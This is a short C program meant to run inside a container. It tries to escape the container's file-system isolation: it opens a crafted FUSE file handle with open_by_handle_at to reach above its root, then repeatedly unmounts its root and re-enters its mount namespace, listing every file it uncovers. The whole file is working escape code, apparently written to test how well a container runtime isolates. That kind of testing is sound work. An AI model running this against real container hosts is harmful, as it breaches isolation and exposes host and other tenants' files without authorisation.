/*
 * Runs as a container's program with CAP_SYS_ADMIN: repeatedly unmounts its root, changes to the root of its mount
 * namespace, and lists every file that it can find. Prints each path that a container can uncover on a line. With
 * CAP_DAC_READ_SEARCH it first tries to get above its root by a file handle.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <unistd.h>

static int depth;

static int show(const char *path, const struct stat *status, int type, struct FTW *walk) {
  (void)status;
  (void)walk;
  /* Directories of the image are mount points; everything else is foreign content. */
  if (type != FTW_D)
    printf("%d %s\n", depth, path);
  return 0;
}

/*
 * Opens the root of a FUSE file system by its handle (u64 node, u32 generation), which leads above the mounted
 * directory if the daemon follows it.
 */
static void open_above(void) {
  struct {
    struct file_handle head;
    unsigned node_high, node_low, generation;
  } handle = {.head = {.handle_bytes = 12, .handle_type = 0x81}, .node_low = 1};
  int root = open("/", O_RDONLY | O_DIRECTORY);
  int above = open_by_handle_at(root, &handle.head, O_RDONLY | O_DIRECTORY);
  if (above < 0) {
    printf("handle: %s\n", strerror(errno));
    return;
  }
  DIR *directory = fdopendir(above);
  for (struct dirent *entry; (entry = readdir(directory)) != NULL;)
    if (entry->d_name[0] != '.')
      printf("handle: %s\n", entry->d_name);
  closedir(directory);
}

int main(void) {
  open_above();
  int namespace = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
  if (namespace < 0) {
    perror("open");
    return 1;
  }
  for (depth = 1; depth <= 5; depth++) {
    if (umount2("/", MNT_DETACH) != 0)
      break;
    if (setns(namespace, CLONE_NEWNS) != 0) {
      perror("setns");
      return 1;
    }
    nftw("/", show, 16, FTW_PHYS);
  }
  printf("uncovered %d\n", depth - 1);
  return 0;
}
